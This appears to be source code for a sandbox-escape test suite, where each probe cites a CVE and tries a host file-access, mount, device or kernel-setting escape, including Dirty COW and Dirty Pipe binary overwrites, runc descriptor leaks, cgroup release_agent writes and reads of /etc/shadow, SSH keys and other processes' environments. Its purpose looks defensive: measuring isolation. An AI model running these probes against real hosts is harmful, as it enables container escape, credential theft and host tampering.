# Files of the host: reading, writing, making, removing; mounts, devices and settings of the machine.
def files(name, cites="", bare="never"):
    return attempt("files", name, cites, bare)

at = lambda name: PLACE + "/" + name
UP = "../" * 40

@files("read-a-file-of-the-host", "", "user")
def _(): return reads(at("secret"))
@files("read-it-by-many-dots", "CVE-2019-14271", "user")
def _(): return reads(UP + at("secret").lstrip("/"))
@files("read-it-by-a-link", "CVE-2026-87766", "user")
def _():
    os.symlink(at("secret"), "link")
    return reads("link")
@files("read-it-by-a-descriptor-of-the-root", "CVE-2024-21626", "user")
def _():
    root = os.open("/", os.O_PATH)
    with open(os.open(at("secret").lstrip("/"), os.O_RDONLY, dir_fd=root), "rb") as file: return got(SECRET.encode() in file.read())
@files("read-it-by-openat2", "", "user")
def _():
    how = text(struct.pack("QQQ", os.O_RDONLY, 0, 0))
    with open(sys_call(437, -100, text(at("secret")), how, 24), "rb") as file: return got(SECRET.encode() in file.read())
@files("read-it-by-a-hard-link", "CVE-2010-0830", "user")
def _():
    os.link(at("secret"), "linked")
    return reads("linked")
@files("read-it-mapped-into-memory", "", "user")
def _():
    fd = os.open(at("secret"), os.O_RDONLY)
    return got(SECRET.encode() in mmap.mmap(fd, 0, prot=mmap.PROT_READ)[:])
@files("execute-a-program-of-the-host", "", "user")
def _():
    run = subprocess.run([at("tool")], capture_output=True)
    return got(SECRET.encode() in run.stdout)
@files("list-a-folder-of-the-host", "", "user")
def _(): return got("secret" in os.listdir(PLACE))
@files("stat-a-file-of-the-host", "", "user")
def _(): return got(os.stat(at("secret")).st_size > 0)
@files("enter-a-folder-of-the-host", "", "user")
def _():
    os.chdir(PLACE)
    return PLACE
@files("watch-a-file-of-the-host", "", "user")
def _():
    return got(sys_call(254, sys_call(294, 0), text(at("secret")), 0xfff) > 0)
@files("overwrite-a-file-of-the-host", "", "user")
def _():
    with open(at("victim"), "r+") as file: file.write("x")
    return at("victim")
@files("append-to-a-file-of-the-host", "", "user")
def _():
    with open(at("victim"), "a") as file: file.write("x")
    return at("victim")
@files("truncate-a-file-of-the-host", "", "user")
def _():
    os.truncate(at("victim"), 0)
    return at("victim")
@files("make-a-file-on-the-host", "", "user")
def _():
    with open(at("made"), "w") as file: file.write("x")
    return at("made")
@files("make-a-folder-on-the-host", "", "user")
def _():
    os.mkdir(at("folder"))
    return at("folder")
@files("make-a-link-on-the-host", "", "user")
def _():
    os.symlink("/etc/shadow", at("planted"))
    return at("planted")
@files("make-a-pipe-on-the-host", "", "user")
def _():
    os.mkfifo(at("pipe"))
    return at("pipe")
@files("rename-a-file-of-the-host", "", "user")
def _():
    os.rename(at("movable"), at("moved"))
    return at("moved")
@files("take-a-file-of-the-host-away", "", "user")
def _():
    os.rename(at("movable2"), "taken")
    return "taken"
@files("exchange-with-a-file-of-the-host", "", "user")
def _():
    open("mine", "w").close()
    sys_call(316, -100, text("mine"), -100, text(at("victim")), 2)
    return "exchanged"
@files("remove-a-file-of-the-host", "", "user")
def _():
    os.remove(at("removable"))
    return at("removable")
@files("change-the-mode-of-a-host-file", "", "user")
def _():
    os.chmod(at("owned"), 0o777)
    return at("owned")
@files("change-the-times-of-a-host-file", "", "user")
def _():
    os.utime(at("owned"), (1, 1))
    return at("owned")
@files("set-an-attribute-of-a-host-file", "", "maybe")
def _():
    os.setxattr(at("owned"), "user.checkrun", b"x")
    return at("owned")
@files("read-the-callers-home", "", "user")
def _(): return reads(C["home"] + "/.ssh/id")
@files("read-the-callers-repository", "", "user")
def _(): return reads(C["repo"] + "/.git/planted")
@files("read-shadow-passwords", "CVE-2020-15257", "root")
def _():
    with open("/etc/shadow") as file: return got("root:" in file.read())
@files("list-the-home-of-root", "", "root")
def _(): return got(os.listdir("/root") is not None, "/root")
@files("read-the-shared-memory-of-others", "ioi/isolate 2.6", "user")
def _(): return reads(C["shm"])
@files("read-the-temporary-files-of-others", "containers/bubblewrap#284", "user")
def _(): return reads(C["tmp"])
@files("proc-root-of-oneself", "", "user")
def _(): return reads("/proc/self/root" + at("secret"))
@files("proc-root-of-everyone", "CVE-2016-9962", "user")
def _(): return first_of(lambda pid: reads(f"/proc/{pid}/root" + at("secret")), others())
@files("proc-cwd-of-everyone", "CVE-2024-21626", "user")
def _(): return first_of(lambda pid: reads(f"/proc/{pid}/cwd/secret"), others())
@files("proc-fd-of-everyone", "CVE-2024-21626", "user")
def _(): return first_of(reads, [f"/proc/{pid}/fd/0" for pid in others()])
@files("proc-environ-of-everyone", "", "user")
def _(): return first_of(lambda pid: reads(f"/proc/{pid}/environ"), others())
@files("proc-cmdline-of-everyone", "", "user")
def _(): return first_of(lambda pid: reads(f"/proc/{pid}/cmdline"), others())
@files("proc-mem-of-everyone", "CVE-2012-0056", "user")
def _(): return first_of(lambda pid: opens(f"/proc/{pid}/mem", os.O_RDWR), others())
@files("proc-exe-of-everyone-overwritten", "CVE-2019-5736")
def _(): return first_of(lambda pid: opens(f"/proc/{pid}/exe", os.O_WRONLY), others())
@files("proc-maps-of-everyone", "", "user")
def _(): return first_of(lambda pid: got(open(f"/proc/{pid}/maps").read(), f"maps of {pid}"), [pid for pid in others() if pid != 1])
@files("open-by-handle", "CVE-2014-9357 (shocker)", "root")
def _():
    handle = text(struct.pack("Ii", 128, 0) + bytes(128)); number = ctypes.c_int()
    sys_call(303, -100, text("."), handle, ctypes.byref(number), 0)
    os.close(sys_call(304, os.open(".", os.O_RDONLY), handle, os.O_RDONLY))
    return "a descriptor by handle"
@files("break-out-of-a-root", "the classic chroot escape", "user")
def _():
    own_user_namespace()
    os.mkdir("d"); out = os.open(".", os.O_RDONLY); os.chroot("d"); os.fchdir(out)
    for _ in range(40): os.chdir("..")
    return reads(at("secret").lstrip("/"))
@files("bind-a-host-folder", "CVE-2021-30465", "user")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); mount(PLACE, "d", None, BIND)
    return reads("d/secret")
@files("bind-the-tree-elsewhere", "", "user")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); mount("/", "d", None, BIND | REC)
    return reads("d" + at("secret"))
@files("copy-the-mounts-and-look-beneath", "containers/bubblewrap#287", "user")
def _():
    own_user_namespace(NEWNS)
    copy = sys_call(428, -100, text("/"), 1 | 0x80000 | 0x8000)
    with open(os.open(at("secret").lstrip("/"), os.O_RDONLY, dir_fd=copy), "rb") as file: return got(SECRET.encode() in file.read())
@files("make-a-copy-of-usr-writable", "containers/bubblewrap#287")
def _():
    own_user_namespace(NEWNS)
    copy = sys_call(428, -100, text("/usr"), 1 | 0x80000)
    sys_call(442, copy, text(""), 0x1000, text(struct.pack("QQQQ", 0, 1, 0, 0)), 32)
    os.close(os.open("checkrun-was-here", os.O_WRONLY | os.O_CREAT, dir_fd=copy))
    return "/usr"
@files("take-covers-off", "containers/bubblewrap#287")
def _():
    own_user_namespace(NEWNS)
    for place in ("/proc", "/dev", "/tmp", "/home", "/etc", "/src", "/"):
        try: sys_call(166, text(place), DETACH); print(place)
        except OSError: pass
    return reads(at("secret"))
@files("remount-usr-writable", "containers/bubblewrap#287")
def _():
    own_user_namespace(NEWNS); mount("/usr", "/usr", None, REMOUNT | BIND)
    return "remounted"
@files("remount-the-root-writable-directly", "containers/bubblewrap#287")
def _():
    mount("/", "/", None, REMOUNT | BIND)
    return "remounted"
@files("move-the-root-aside", "CVE-2017-1002101")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); sys_call(155, text("."), text("d"))
    return "moved"
@files("overlay-with-privileges", "CVE-2023-0386, CVE-2021-3493", "maybe")
def _():
    own_user_namespace(NEWNS)
    for name in "uwm": os.mkdir(name)
    mount("o", "m", "overlay", 0, "lowerdir=/usr,upperdir=u,workdir=w,userxattr")
    return "an overlay"
@files("mount-by-the-new-calls", "CVE-2022-0185", "user")
def _():
    own_user_namespace(NEWNS)
    context = sys_call(430, text("tmpfs"), 0); sys_call(431, context, 6, None, None, 0)
    made = sys_call(432, context, 0, 0); os.mkdir("d"); sys_call(429, made, text(""), -100, text("d"), 4)
    return "a file system"
@files("mount-a-new-proc", "containers/bubblewrap#284", "maybe")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); mount("proc", "d", "proc")
    return got(os.path.exists(f"d/{PID}"))
@files("mount-cgroups-and-set-a-release-agent", "CVE-2022-0492")
def _():
    own_user_namespace(NEWNS | NEWCGROUP); os.mkdir("d")
    return first_of(lambda kind: mount("c", "d", kind[0], 0, kind[1]) or opens("d/release_agent", os.O_WRONLY), [("cgroup", "memory"), ("cgroup", "pids"), ("cgroup", "none,name=x")])
@files("mount-binfmt-misc", "CVE-2023-46862")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); mount("b", "d", "binfmt_misc")
    return "mounted"
@files("mount-debugfs", "CVE-2015-8660")
def _():
    own_user_namespace(NEWNS); os.mkdir("d"); mount("d", "d", "debugfs")
    return "mounted"
@files("mount-an-image-of-ones-own", "CVE-2022-3545")
def _():
    own_user_namespace(NEWNS); open("image", "wb").truncate(1 << 20); os.mkdir("d"); mount("image", "d", "ext4")
    return "mounted"
@files("make-a-node-of-a-disk", "CVE-2008-2365")
def _():
    os.mknod("disk", stat.S_IFBLK | 0o666, os.makedev(7, 0))
    return opens("disk", os.O_RDONLY)
@files("make-a-node-of-memory", "CVE-2021-21284")
def _():
    os.mknod("memory", stat.S_IFCHR | 0o666, os.makedev(1, 1))
    return opens("memory", os.O_RDONLY)
@files("any-other-device", "CVE-2025-31133, CVE-2025-52565", "root")
def _():
    known = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}
    nodes = [os.path.join(top, name) for top, _, names in os.walk("/dev") for name in names if name not in known and "/pts" not in top]
    named = ["/dev/" + name for name in ("mem", "kmsg", "kvm", "fuse", "loop-control", "loop0", "net/tun", "sda", "vda", "uinput", "vhost-vsock", "console", "tty0", "vcs")]
    nodes = [node for node in nodes + named if os.path.exists(node) and not stat.S_ISREG(os.stat(node).st_mode) and not stat.S_ISFIFO(os.stat(node).st_mode) and not stat.S_ISSOCK(os.stat(node).st_mode)]
    return first_of(lambda node: opens(node, os.O_RDONLY), nodes)
for setting in ("kernel/core_pattern", "kernel/modprobe", "kernel/sysrq", "kernel/panic", "kernel/dmesg_restrict", "kernel/kptr_restrict",
                "kernel/perf_event_paranoid", "kernel/unprivileged_bpf_disabled", "kernel/randomize_va_space", "kernel/pid_max",
                "kernel/poweroff_cmd", "vm/drop_caches", "vm/overcommit_memory", "vm/mmap_min_addr", "fs/suid_dumpable", "fs/protected_hardlinks",
                "fs/protected_symlinks", "fs/file-max", "user/max_user_namespaces"):
    files("setting-" + setting.replace("/", "-").replace("_", "-"), "measured in bwrap, hakoniwa, srt" if "core" in setting else "", "maybe-root")(lambda setting=setting: opens("/proc/sys/" + setting, os.O_WRONLY))
for name, path in (("sysrq-trigger", "/proc/sysrq-trigger"), ("uevent-helper", "/sys/kernel/uevent_helper"), ("huge-pages", "/sys/kernel/mm/transparent_hugepage/enabled"),
                   ("power-state", "/sys/power/state"), ("processors-offline", "/sys/devices/system/cpu/cpu1/online"), ("irq-affinity", "/proc/irq/default_smp_affinity")):
    files("machine-" + name, "CVE-2014-0181" if "uevent" in name else "", "maybe-root")(lambda path=path: opens(path, os.O_WRONLY))
@files("memory-of-the-kernel", "CVE-2021-3444", "maybe-root")
def _(): return opens("/proc/kcore", os.O_RDONLY)
@files("messages-of-the-kernel", "", "root")
def _(): return opens("/proc/kmsg", os.O_RDONLY)
@files("cgroup-files", "CVE-2022-0492", "root")
def _():
    found = [os.path.join(top, name) for top, _, names in os.walk("/sys/fs/cgroup") for name in names if name in ("cgroup.procs", "release_agent", "tasks")]
    return first_of(lambda path: opens(path, os.O_WRONLY), found[:200])
@files("write-to-a-program-by-its-private-mapping", "CVE-2016-5195 (Dirty COW)")
def _():
    fd = os.open("/usr/bin/env", os.O_RDONLY); before = os.pread(fd, 4, 0)
    place = mmap.mmap(fd, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    line = [line for line in open("/proc/self/maps") if "/usr/bin/env" in line][0]
    memory = os.open("/proc/self/mem", os.O_RDWR); os.pwrite(memory, b"XXXX", int(line.split("-")[0], 16))
    return got(os.pread(os.open("/usr/bin/env", os.O_RDONLY), 4, 0) != before and place)
@files("write-to-a-program-by-a-pipe", "CVE-2022-0847 (Dirty Pipe)")
def _():
    fd = os.open("/usr/bin/env", os.O_RDONLY); before = os.pread(fd, 16, 0); r, w = os.pipe()
    for _ in range(16): os.write(w, bytes(4096))
    for _ in range(16): os.read(r, 4096)
    os.splice(fd, w, 1, offset_src=0); os.write(w, b"XXXX")
    return got(os.pread(fd, 16, 0) != before)
